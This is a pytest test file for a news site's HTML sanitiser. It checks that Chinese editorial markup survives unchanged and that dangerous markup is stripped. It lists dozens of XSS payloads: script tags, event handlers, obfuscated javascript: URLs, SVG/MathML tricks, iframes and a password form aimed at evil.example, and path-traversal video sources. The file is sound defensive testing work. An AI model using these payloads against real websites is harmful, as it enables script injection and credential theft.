"""The article-body allowlist: attacks removed, real editorial HTML kept as it is."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils.html import strip_tags
from hypothesis import given, settings
from hypothesis import strategies as st

from xinwen.news.sanitize import ALLOWED_TAGS, FORBIDDEN_TAGS, plain_text, sanitize_html

# Tags that can run script, load content or change how the page around them behaves.
DANGEROUS_TAGS = FORBIDDEN_TAGS | {
    "meta", "link", "frame", "frameset", "applet", "template", "xmp", "plaintext", "noembed", "input",
    "button", "select", "option", "audio", "object", "param", "isindex", "marquee",
}  # fmt: skip
# Kept only when everything they load is the site's own media (an article's video and its captions).
MEDIA_TAGS = {"video", "source", "track"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster", "data", "cite"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


class _Inspector(HTMLParser):
    """Collect what a browser would see as markup in the sanitiser's output."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.declarations: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.declarations.append(decl)

    def unknown_decl(self, data):
        self.declarations.append(data)


def url_scheme(value: str) -> str | None:
    """The scheme a browser would use: it ignores control characters and whitespace in URLs."""
    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", squeezed)
    return match.group(1) if match else None


def assert_harmless(html: str) -> None:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.comments, inspector.comments
    assert not inspector.declarations, inspector.declarations
    for tag, attrs in inspector.tags:
        assert tag not in DANGEROUS_TAGS, tag
        assert tag in ALLOWED_TAGS, tag
        if tag == "a":
            # A link must not hand the reader's tab to the page it opens.
            assert "noopener" in (attrs.get("rel") or "").split(), attrs
            assert "target" not in attrs, attrs
        if tag in MEDIA_TAGS:
            for name in ("src", "poster"):
                if name in attrs:
                    value = attrs[name] or ""
                    assert value.startswith("/media/") and "//" not in value and ".." not in value, (tag, attrs)
            assert "autoplay" not in attrs, attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), name
            assert name not in {"style", "srcdoc", "formaction", "action", "xlink:href", "background"}, name
            if name in URL_ATTRIBUTES:
                assert url_scheme(value or "") in SAFE_SCHEMES | {None}, (name, value)
    assert "<script" not in html.lower()


XSS = [
    # script in every spelling
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script/xss src=//evil.example></script>",
    '<p>text<script type="module">import("//evil.example")</script></p>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=x onerror\t=\talert(1)>",
    '<body onload="alert(1)"><p>x</p></body>',
    '<p onclick="alert(1)" onmouseover="alert(2)">点我</p>',
    '<a href="https://example.org" onfocus="alert(1)" autofocus>x</a>',
    '<div/onmouseover="alert(1)">x</div>',
    # dangerous URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:alert(1)">',
    '<a href="file:///etc/passwd">x</a>',
    # tags that bring their own content or behaviour
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/login"><input name="password"><button>登录</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><script>alert(1)</script></title>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="width:expression(alert(1))">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<img src="x" style="behavior:url(x.htc)">',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    '<a href="https://example.org" target="_blank" rel="opener">x</a>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '"><img src=x onerror=alert(1)>',
    "<isindex action=javascript:alert(1) type=image>",
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
]


@pytest.mark.parametrize("payload", XSS)
def test_dangerous_markup_does_not_survive(payload):
    cleaned = sanitize_html(payload)

    assert_harmless(cleaned)
    # Saving an article again must not change it: sanitising is stable.
    assert sanitize_html(cleaned) == cleaned


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("<script>alert(1)</script><p>正文</p>", "<p>正文</p>"),
        ("<style>p{color:red}</style><p>正文</p>", "<p>正文</p>"),
        ("<iframe>内嵌</iframe><p>正文</p>", "<p>正文</p>"),
        ("<title>标题</title><p>正文</p>", "<p>正文</p>"),
        ('<img src="x" onerror="alert(1)" alt="图">', '<img src="x" alt="图">'),
        ('<a href="javascript:alert(1)">点此</a>', '<a rel="noopener noreferrer">点此</a>'),
        ('<p style="color:red" class="x" id="y">正文</p>', "<p>正文</p>"),
        ('<form action="/x"><p>表单里的文字</p></form>', "<p>表单里的文字</p>"),
    ],
)
def test_dangerous_parts_go_and_the_text_around_them_stays(payload, expected):
    assert sanitize_html(payload) == expected


LEGITIMATE = [
    "<p>4月24日，深化国资央企与上海市合作座谈会在沪举行。</p>",
    "<p>“引号”——破折号……《书名》、顿号；全角标点！？</p>",
    "<p>繁體中文：發佈時間、瀏覽次數</p>",
    "<h2>一、会议概况</h2><h3>（一）主要内容</h3><h4>1. 细则</h4>",
    "<p><strong>粗体</strong><em>斜体</em><u>下划线</u><s>删除线</s>H<sub>2</sub>O m<sup>2</sup></p>",
    "<ul><li>第一项</li><li>第二项</li></ul>",
    '<ol start="3"><li>第三项</li><li>第四项</li></ol>',
    "<blockquote><p>引用一段讲话。</p></blockquote>",
    "<p>第一行<br>第二行</p><hr><p>分隔后</p>",
    (
        '<table><caption>经营数据</caption><thead><tr><th scope="col">年份</th><th scope="col">营收（亿元）</th></tr></thead>'
        '<tbody><tr><td>2023</td><td>1,234.5</td></tr><tr><td colspan="2">合计</td></tr></tbody></table>'
    ),
    '<p><a href="https://www.sasac.gov.cn/n2588025/index.html" rel="noopener noreferrer">国资委网站</a></p>',
    '<p><a href="/article/12/" rel="noopener noreferrer">站内文章</a></p>',
    (
        '<p><a href="mailto:news@example.org" rel="noopener noreferrer">来信</a>、'
        '<a href="tel:+86-21-12345678" rel="noopener noreferrer">电话</a></p>'
    ),
    '<p><img src="/media/images/2024/04/a1b2.jpg" alt="座谈会现场" width="640" height="427"></p>',
    '<figure><img src="https://img.example.org/a.png" alt="示意图"><figcaption>图1 示意图</figcaption></figure>',
    "<p><ruby>重<rp>(</rp><rt>zhòng</rt><rp>)</rp></ruby>庆</p>",
    '<p lang="en">English paragraph &amp; an ampersand.</p>',
    "<p>a &lt; b 且 c &gt; d</p>",
]


@pytest.mark.parametrize("html", LEGITIMATE)
def test_legitimate_html_is_kept_exactly(html):
    assert sanitize_html(html) == html


EXTERNAL_LINK = '<a href="https://example.org" rel="noopener noreferrer">外链</a>'


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<a href="https://example.org">外链</a>', EXTERNAL_LINK),
        ('<a href="https://example.org" rel="opener">外链</a>', EXTERNAL_LINK),
        ('<a href="https://example.org" target="_blank">外链</a>', EXTERNAL_LINK),
        ("<h1>一级标题</h1>", "一级标题"),
        ("<p><font color=red>红字</font></p>", "<p>红字</p>"),
        ("<p>未闭合", "<p>未闭合</p>"),
        ("  <p>首尾空白</p>\n", "<p>首尾空白</p>"),
    ],
)
def test_editorial_html_is_normalised(html, expected):
    assert sanitize_html(html) == expected


@pytest.mark.parametrize("empty", ["", None, "<p></p>", "<p><br></p>", "   ", "<script>x</script>"])
def test_empty_documents_become_empty(empty):
    assert sanitize_html(empty) == ""


VIDEO_ATTACKS = [
    '<video src="https://evil.example/ad.mp4" controls></video>',
    '<video controls><source src="https://evil.example/ad.mp4" type="video/mp4"></video>',
    '<video controls><source src="//evil.example/media/ad.mp4"></video>',
    '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
    '<video src="/media/videos/a.mp4" onerror="alert(1)" onloadedmetadata="alert(2)"></video>',
    '<video src="/media/videos/a.mp4"><track kind="captions" src="https://evil.example/a.vtt" onload="alert(1)"></video>',
    '<video src="/media/../../etc/passwd"></video>',
    '<video src="/media/videos/a.mp4" autoplay><source src="data:video/mp4;base64,AAAA"></video>',
    '<video src="/media/a.mp4"><source src="/media/b.mp4" type="text/html"><track kind="metadata" srclang="x\" onload=1"></video>',
]


@pytest.mark.parametrize("payload", VIDEO_ATTACKS)
def test_video_plays_only_the_sites_own_media(payload):
    cleaned = sanitize_html(payload)
    assert_harmless(cleaned)
    assert "evil.example" not in cleaned and "javascript" not in cleaned and "data:" not in cleaned
    assert "onerror" not in cleaned and "onload" not in cleaned and "autoplay" not in cleaned
    assert "text/html" not in cleaned and "metadata" not in cleaned


def test_an_own_video_with_captions_is_kept():
    html = (
        '<video controls="" preload="metadata" poster="/media/covers/2026/05/p.jpg">'
        '<source src="/media/videos/2026/05/v.mp4" type="video/mp4">'
        '<track kind="captions" srclang="zh" src="/media/videos/2026/05/v.vtt" label="中文字幕" default="">'
        "</video>"
    )
    assert sanitize_html(html) == html


# Pieces of editorial HTML, well-formed or not, for the plain-text check below: attribute values
# with quotes and ">", text with "<" and "&", entities, comments and tags the sanitiser drops.
_PIECES = [
    "<p>", "</p>", "<b>", "</b>", "<br>", "<h2>", "</h2>", "<ul><li>", "</li></ul>", "<table><tr><td>", "</td></tr></table>",
    '<a href="https://example.org/?a=1&b=2">', '<a title="a > b">', "<a title='它说\"好\"'>", "</a>",
    '<img src="/media/a.png" alt="1 > 0">', '<img alt="<script>">', "<!-- 注释 -->", "<script>alert(1)</script>",
    "<style>p{}</style>", "&amp;", "&lt;", "&gt;", "&#20013;", "&#x4e2d;", "&nbsp;", "&copy", "a < b", "c > d", "&",
    "新闻中心", " 集团 ", "\n", "2025年", '"', "'",
]  # fmt: skip


@pytest.mark.parametrize("html", XSS + LEGITIMATE + VIDEO_ATTACKS)
def test_plain_text_is_what_strip_tags_gives_for_sanitised_html(html):
    cleaned = sanitize_html(html)
    assert plain_text(cleaned) == strip_tags(cleaned)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=30))
def test_plain_text_matches_strip_tags_on_any_sanitised_mix(pieces):
    cleaned = sanitize_html("".join(pieces))
    assert plain_text(cleaned) == strip_tags(cleaned)


def test_plain_text_skips_quoted_attribute_values_whole():
    """Should a serialiser leave ">" in an attribute value, the tag still goes whole."""
    assert plain_text('<p><a title="a > b" href=\'/x?>\'>链接</a> 与 &amp; 文字</p>') == "链接 与 &amp; 文字"
